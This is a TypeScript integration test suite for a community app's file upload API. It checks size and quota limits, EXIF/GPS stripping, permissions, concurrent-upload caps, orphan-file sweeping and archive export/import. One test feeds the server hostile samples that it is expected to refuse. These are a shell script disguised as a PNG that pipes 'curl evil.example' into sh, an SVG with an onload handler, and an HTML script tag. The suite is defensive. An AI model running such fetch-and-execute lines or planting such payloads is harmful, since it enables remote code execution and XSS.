import { randomBytes } from 'node:crypto';
import { Readable } from 'node:stream';
import sharp from 'sharp';
import { DataSource } from 'typeorm';
import { loadConfig } from '../../apps/api/src/config/config';
import { FILE_STORE, FileStore } from '../../apps/api/src/files/file-store';
import { FileSweeper } from '../../apps/api/src/files/file-sweeper';
import { S3FileStore } from '../../apps/api/src/files/s3-file-store';
import { communityWithPeople, CommunityFixture, createItem } from '../support/fixtures';
import { sql } from '../support/test-database';
import { startTestApp, TestApp } from '../support/test-app';

/**
 * Files and images in items (issue 22, points 3 and 5): upload and download
 * over REST with every limit and permission, metadata stripped from photos,
 * the per-community quota and the sweep of files no item refers to.
 */

const MB = 1024 * 1024;
const QUOTA_MB = 25;

let t: TestApp;
let c: CommunityFixture;
let itemId: string;

beforeAll(async () => {
  t = await startTestApp({ FILES_COMMUNITY_QUOTA_MB: String(QUOTA_MB), FILES_SWEEP_INTERVAL_MINUTES: '0' });
  c = await communityWithPeople(t.baseUrl);
  itemId = (
    await createItem(t.baseUrl, c.member.token, { communityId: c.communityId, kind: 'CASE', title: 'Huisbezoek' })
  ).id;
});

afterAll(async () => {
  await t?.close();
});

function upload(
  body: Uint8Array | ReadableStream<Uint8Array>,
  options: { type: string; name: string; token?: string | null; item?: string },
): Promise<Response> {
  const token = options.token === undefined ? c.member.token : options.token;
  return fetch(`${t.baseUrl}/items/${options.item ?? itemId}/files`, {
    method: 'POST',
    headers: {
      'Content-Type': options.type,
      'X-Filename': encodeURIComponent(options.name),
      ...(token ? { Authorization: `Bearer ${token}` } : {}),
    },
    body,
    ...(body instanceof ReadableStream ? { duplex: 'half' } : {}),
  } as RequestInit);
}

function download(url: string, token: string | null = c.reader.token): Promise<Response> {
  return fetch(`${t.baseUrl}${url}`, { headers: token ? { Authorization: `Bearer ${token}` } : {} });
}

async function fileCount(): Promise<{ files: number; chunks: number }> {
  const [row] = await sql<{ files: string; chunks: string }>(
    t.db.url,
    `SELECT (SELECT count(*) FROM files) AS files, (SELECT count(*) FROM file_chunks) AS chunks`,
  );
  return { files: Number(row.files), chunks: Number(row.chunks) };
}

/** A photo as a phone makes it: a JPEG whose EXIF holds the camera and a GPS position. */
async function phonePhoto(): Promise<Buffer> {
  return sharp({ create: { width: 640, height: 480, channels: 3, background: { r: 200, g: 120, b: 40 } } })
    .jpeg()
    .withExif({
      IFD0: { Make: 'Telefoon', Model: 'Huisbezoek 1' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '52/1 5/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '4/1 53/1 0/1' },
    })
    .toBuffer();
}

/** The EXIF pointer to the GPS directory (tag 0x8825), in either byte order. */
const hasGpsTag = (exif: Buffer) =>
  exif.includes(Buffer.from([0x88, 0x25])) || exif.includes(Buffer.from([0x25, 0x88]));

const png = () =>
  sharp({ create: { width: 300, height: 200, channels: 4, background: { r: 0, g: 90, b: 200, alpha: 1 } } })
    .png()
    .toBuffer();

describe('upload and download', () => {
  it('stores an image and serves it to a reader of the item, inline, with nosniff', async () => {
    const res = await upload(await png(), { type: 'image/png', name: 'flip-over intervisie.png' });
    expect(res.status).toBe(201);
    const stored = (await res.json()) as { id: string; url: string; name: string; size: number; contentType: string };
    expect(stored).toEqual({
      id: expect.any(String),
      url: `/files/${stored.id}`,
      name: 'flip-over intervisie.png',
      size: expect.any(Number),
      contentType: 'image/png',
    });
    const got = await download(stored.url);
    expect(got.status).toBe(200);
    expect(got.headers.get('content-type')).toBe('image/png');
    expect(got.headers.get('x-content-type-options')).toBe('nosniff');
    expect(got.headers.get('content-disposition')).toMatch(/^inline; filename="flip-over intervisie.png"/);
    const bytes = Buffer.from(await got.arrayBuffer());
    expect(bytes.length).toBe(stored.size);
    expect((await sharp(bytes).metadata()).width).toBe(300);
  });

  it('strips EXIF and GPS from a photo, and resizes it for display', async () => {
    const photo = await phonePhoto();
    const before = await sharp(photo).metadata();
    expect(before.exif && hasGpsTag(before.exif)).toBe(true); // the test photo really carries a position
    const res = await upload(photo, { type: 'image/jpeg', name: 'IMG_2041.JPG' });
    expect(res.status).toBe(201);
    const { url, name } = (await res.json()) as { url: string; name: string };
    expect(name).toBe('IMG_2041.jpg');
    const bytes = Buffer.from(await (await download(url)).arrayBuffer());
    const after = await sharp(bytes).metadata();
    expect(after.format).toBe('jpeg');
    expect(after.exif).toBeUndefined();
    expect(after.xmp).toBeUndefined();
    expect(bytes.includes(Buffer.from('Exif\0\0'))).toBe(false);
    expect(bytes.includes(Buffer.from('Telefoon'))).toBe(false);

    const small = await download(`${url}?w=160`);
    expect(small.status).toBe(200);
    expect(small.headers.get('x-content-type-options')).toBe('nosniff');
    const meta = await sharp(Buffer.from(await small.arrayBuffer())).metadata();
    expect([meta.width, meta.height]).toEqual([160, 120]);
    expect((await download(`${url}?w=abc`)).status).toBe(400);
  });

  it('serves other files as attachments, with the type decided from the bytes', async () => {
    const pdf = Buffer.from('%PDF-1.4\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n');
    const res = await upload(pdf, { type: 'application/pdf', name: 'protocol.pdf' });
    expect(res.status).toBe(201);
    const got = await download(((await res.json()) as { url: string }).url);
    expect(got.headers.get('content-disposition')).toMatch(/^attachment; filename="protocol.pdf"/);
    expect(got.headers.get('x-content-type-options')).toBe('nosniff');
    expect(Buffer.from(await got.arrayBuffer()).equals(pdf)).toBe(true);

    const txt = await upload(Buffer.from('Aantekeningen bij de casus, één pagina.\n'), {
      type: 'application/octet-stream',
      name: 'notities',
    });
    expect(txt.status).toBe(201);
    expect(await txt.json()).toMatchObject({ name: 'notities.txt', contentType: 'text/plain' });
  });
});

describe('refusals', () => {
  it('refuses a file over 20 MB by its Content-Length, and one that grows past it while streaming, storing nothing', async () => {
    const before = await fileCount();
    const big = Buffer.alloc(20 * MB + 1, 0x61);
    const declared = await upload(big, { type: 'text/plain', name: 'groot.txt' });
    expect(declared.status).toBe(413);
    expect(await declared.json()).toMatchObject({ errors: [{ extensions: { code: 'PAYLOAD_TOO_LARGE' } }] });

    // No Content-Length: chunked, refused as the stream passes 20 MB.
    let sent = 0;
    const stream = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent >= 22 * MB) return controller.close();
        sent += MB;
        controller.enqueue(new Uint8Array(MB).fill(0x62));
      },
    });
    const streamed = await upload(stream, { type: 'text/plain', name: 'stroom.txt' });
    expect(streamed.status).toBe(413);
    const body = (await streamed.json()) as { errors: { message: string; extensions: { code: string } }[] };
    expect(body.errors[0].message).toMatch(/groter dan 20 MB.*larger than 20 MB/);
    expect(await fileCount()).toEqual(before);
  });

  it('refuses SVG, HTML, a script named .png and an archive with 415', async () => {
    const before = await fileCount();
    const cases: [Buffer, string, string][] = [
      [Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'), 'image/svg+xml', 'logo.svg'],
      [Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>'), 'image/png', 'logo.png'],
      [Buffer.from('<!doctype html><script>fetch("/graphql")</script>'), 'text/html', 'pagina.html'],
      [Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'), 'image/png', 'foto.png'],
      [Buffer.from([0x50, 0x4b, 0x03, 0x04, ...Buffer.alloc(40)]), 'application/zip', 'map.zip'],
      [Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0x03]), 'application/octet-stream', 'setup.exe'],
    ];
    for (const [bytes, type, name] of cases) {
      const res = await upload(bytes, { type, name });
      expect([name, res.status]).toEqual([name, 415]);
      expect(await res.json()).toMatchObject({ errors: [{ extensions: { code: 'UNSUPPORTED_MEDIA_TYPE' } }] });
    }
    expect(await fileCount()).toEqual(before);
  });

  it('refuses an upload by a reader (403), without a session (401), and downloads by outsiders (404)', async () => {
    const image = await png();
    expect((await upload(image, { type: 'image/png', name: 'a.png', token: c.reader.token })).status).toBe(403);
    expect((await upload(image, { type: 'image/png', name: 'a.png', token: c.outsider.token })).status).toBe(404);
    expect((await upload(image, { type: 'image/png', name: 'a.png', token: null })).status).toBe(401);
    const { url } = (await (await upload(image, { type: 'image/png', name: 'a.png' })).json()) as { url: string };
    expect((await download(url, c.outsider.token)).status).toBe(404);
    expect((await download(url, null)).status).toBe(401);
    const cookie = await fetch(`${t.baseUrl}${url}`, { headers: { Cookie: `spiraal_session=${c.reader.token}` } });
    expect(cookie.status).toBe(200);
    expect((await download('/files/00000000-0000-4000-8000-000000000000')).status).toBe(404);
    expect((await download('/files/niet-een-id')).status).toBe(404);
  });

  it('refuses an upload that would pass the community quota (413), storing nothing', async () => {
    const other = await communityWithPeople(t.baseUrl);
    const otherItem = await createItem(t.baseUrl, other.member.token, {
      communityId: other.communityId,
      kind: 'CASE',
      title: 'Vol',
    });
    // The community already holds nearly its quota.
    await sql(
      t.db.url,
      `INSERT INTO files (community_id, item_id, name, content_type, size) VALUES ($1, $2, 'oud.pdf', 'application/pdf', $3)`,
      [other.communityId, otherItem.id, QUOTA_MB * MB - 1000],
    );
    const before = await fileCount();
    const res = await upload(Buffer.from('x'.repeat(2000)), {
      type: 'text/plain',
      name: 'net te veel.txt',
      token: other.member.token,
      item: otherItem.id,
    });
    expect(res.status).toBe(413);
    expect(await res.json()).toMatchObject({ errors: [{ extensions: { reason: 'COMMUNITY_QUOTA' } }] });
    expect(await fileCount()).toEqual(before);
    const small = await upload(Buffer.from('past nog'), {
      type: 'text/plain',
      name: 'klein.txt',
      token: other.member.token,
      item: otherItem.id,
    });
    expect(small.status).toBe(201);
  });
});

describe('uploads at once', () => {
  it('takes at most four uploads at once, refuses a fifth with 429, and keeps nothing of aborted ones', async () => {
    const before = await fileCount();
    const aborts: AbortController[] = [];
    for (let i = 0; i < 4; i++) {
      const abort = new AbortController();
      aborts.push(abort);
      let sent = false;
      // A client that sends 110 kB of text and then nothing more.
      const stream = new ReadableStream<Uint8Array>({
        pull(controller) {
          if (!sent) {
            sent = true;
            controller.enqueue(new Uint8Array(Buffer.from('Langzaam. '.repeat(11_000))));
          }
          return new Promise<void>(() => undefined);
        },
      });
      void fetch(`${t.baseUrl}/items/${itemId}/files`, {
        method: 'POST',
        headers: { 'Content-Type': 'text/plain', Authorization: `Bearer ${c.member.token}` },
        body: stream,
        duplex: 'half',
        signal: abort.signal,
      } as RequestInit).catch(() => undefined);
    }
    // An SVG is refused with 415 while a slot is free; once all four are taken, with 429 before reading it.
    let answer: Response | null = null;
    for (let attempt = 0; attempt < 100; attempt++) {
      answer = await upload(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'), {
        type: 'image/svg+xml',
        name: 'x.svg',
      });
      if (answer.status === 429) break;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    expect(answer?.status).toBe(429);
    expect(Number(answer?.headers.get('retry-after'))).toBeGreaterThan(0);
    for (const abort of aborts) abort.abort();
    let after: Response | null = null;
    for (let attempt = 0; attempt < 100; attempt++) {
      after = await upload(Buffer.from('weer ruimte'), { type: 'text/plain', name: 'daarna.txt' });
      if (after.status === 201) break;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    expect(after?.status).toBe(201);
    const now = await fileCount();
    expect(now.files).toBe(before.files + 1);
    expect(now.chunks).toBe(before.chunks + 1);
  });
});

describe('sweep', () => {
  it('removes a file no item refers to any more, and keeps one another item still shows', async () => {
    const item = await createItem(t.baseUrl, c.member.token, {
      communityId: c.communityId,
      kind: 'CASE',
      title: 'Weg',
    });
    const up = async (name: string) =>
      ((await (await upload(Buffer.from(name), { type: 'text/plain', name, item: item.id })).json()) as { url: string })
        .url;
    const kept = await up('bewaard');
    const dropped = await up('vergeten');
    await createItem(t.baseUrl, c.member.token, {
      communityId: c.communityId,
      kind: 'CASE',
      title: 'Kopie',
      body: `Zie [de bijlage](${kept}).`,
    });
    const sweeper = t.app.get(FileSweeper);
    expect(await sweeper.sweep(60 * 60_000)).toEqual([]); // within the grace period nothing goes
    const removed = await sweeper.sweep(0);
    expect(removed).toContain(dropped.slice('/files/'.length));
    expect(removed).not.toContain(kept.slice('/files/'.length));
    expect((await download(dropped)).status).toBe(404);
    expect((await download(kept)).status).toBe(200);
    const [{ chunks }] = await sql<{ chunks: string }>(
      t.db.url,
      `SELECT count(*) AS chunks FROM file_chunks WHERE file_id = $1`,
      [dropped.slice('/files/'.length)],
    );
    expect(Number(chunks)).toBe(0);
  });
});

describe('community archive', () => {
  it('takes files along in the export and restores them with new addresses in the bodies', async () => {
    const photo = await phonePhoto();
    const up = (await (await upload(photo, { type: 'image/jpeg', name: 'flip-over.jpg' })).json()) as {
      id: string;
      url: string;
    };
    const pdf = Buffer.from('%PDF-1.4\nprotocol\n%%EOF\n');
    const doc = (await (await upload(pdf, { type: 'application/pdf', name: 'protocol.pdf' })).json()) as {
      url: string;
    };
    const shown = await createItem(t.baseUrl, c.facilitator.token, {
      communityId: c.communityId,
      kind: 'CASE',
      title: 'Met foto',
      body: `De flip-over:\n\n![flip-over](${up.url})\n\nHet protocol: [protocol.pdf](${doc.url})\n`,
    });
    expect(shown.id).toBeTruthy();
    const zip = await fetch(`${t.baseUrl}/export/communities/${c.communityId}`, {
      headers: { Authorization: `Bearer ${c.facilitator.token}` },
    });
    expect(zip.status).toBe(200);
    const archive = new Uint8Array(await zip.arrayBuffer());

    // Restored into a new, empty community of the same facilitator.
    const created = await fetch(`${t.baseUrl}/graphql`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${c.facilitator.token}` },
      body: JSON.stringify({ query: 'mutation { createCommunity(input: { name: "Hersteld" }) { id } }' }),
    });
    const target = ((await created.json()) as { data: { createCommunity: { id: string } } }).data.createCommunity.id;
    const restored = await fetch(`${t.baseUrl}/export/communities/${target}/import`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${c.facilitator.token}`, 'Content-Type': 'application/zip' },
      body: archive,
    });
    expect(restored.status).toBe(200);

    const [item] = await sql<{ id: string }>(
      t.db.url,
      `SELECT id FROM items WHERE community_id = $1 AND title = 'Met foto'`,
      [target],
    );
    const files = await sql<{ id: string; name: string; item_id: string }>(
      t.db.url,
      `SELECT id, name, item_id FROM files WHERE community_id = $1 ORDER BY name`,
      [target],
    );
    expect(files.map((f) => f.name)).toContain('flip-over.jpg');
    expect(files.map((f) => f.name)).toContain('protocol.pdf');
    const markdown = (
      (await (
        await fetch(`${t.baseUrl}/graphql`, {
          method: 'POST',
          headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${c.facilitator.token}` },
          body: JSON.stringify({ query: `{ item(id: "${item.id}") { markdown } }` }),
        })
      ).json()) as { data: { item: { markdown: string } } }
    ).data.item.markdown;
    const photoCopy = files.find((f) => f.name === 'flip-over.jpg')!;
    const pdfCopy = files.find((f) => f.name === 'protocol.pdf')!;
    expect(photoCopy.id).not.toBe(up.id);
    expect(markdown).toContain(`![flip-over](/files/${photoCopy.id})`);
    expect(markdown).toContain(`/files/${pdfCopy.id}`);
    expect(markdown).not.toContain(up.url);
    const original = Buffer.from(await (await download(up.url, c.facilitator.token)).arrayBuffer());
    const copy = Buffer.from(await (await download(`/files/${photoCopy.id}`, c.facilitator.token)).arrayBuffer());
    expect(copy.equals(original)).toBe(true);
    // The original community's members see nothing of the copy.
    expect((await download(`/files/${photoCopy.id}`, c.reader.token)).status).toBe(404);
  });
});

/**
 * The storage contract every store keeps (docs/decisions/file-storage.md):
 * bytes written in pieces come back the same, in order, and are gone after
 * `remove`. PostgreSQL always; S3 where S3_URL (and its credentials) are set.
 */
describe('file store contract', () => {
  async function contract(store: FileStore): Promise<void> {
    const db = t.app.get(DataSource);
    const bytes = randomBytes(700 * 1024 + 13);
    const pieces = [0, 1, 2, 3, 4, 5, 6, 7].map((i) => bytes.subarray(i * 100 * 1024, (i + 1) * 100 * 1024));
    const tx = db.createQueryRunner();
    await tx.connect();
    let id: string;
    try {
      await tx.startTransaction();
      [{ id }] = await tx.query(
        `INSERT INTO files (community_id, item_id, name, content_type, size, storage)
         VALUES ($1, $2, 'contract.txt', 'text/plain', 0, $3) RETURNING id`,
        [c.communityId, itemId, store.kind],
      );
      expect(await store.write(tx, id, Readable.from(pieces))).toBe(bytes.length);
      await tx.commitTransaction();
    } finally {
      await tx.release();
    }
    const back: Buffer[] = [];
    for await (const chunk of await store.read(id)) back.push(chunk as Buffer);
    expect(Buffer.concat(back).equals(bytes)).toBe(true);
    await db.query(`DELETE FROM files WHERE id = $1`, [id]);
    await store.remove([id]);
    const after: Buffer[] = [];
    try {
      for await (const chunk of await store.read(id)) after.push(chunk as Buffer);
    } catch {
      // A store may refuse to read what is gone; it must not give the bytes back.
    }
    expect(Buffer.concat(after).length).toBe(0);
  }

  it('PostgreSQL (the default) keeps it', async () => {
    const store = t.app.get<FileStore>(FILE_STORE);
    expect(store.kind).toBe('postgres');
    await contract(store);
  });

  const s3 = process.env.S3_URL ? loadConfig({ ...process.env, DATABASE_URL: undefined }).files.s3 : null;
  if (!s3) {
    it.skip('S3 keeps it: skipped, no S3_URL (with S3_BUCKET, S3_ACCESS_KEY_ID, S3_SECRET_ACCESS_KEY) is set', () => {});
  } else {
    it('S3 keeps it', async () => {
      await contract(new S3FileStore(s3));
    });
  }
});
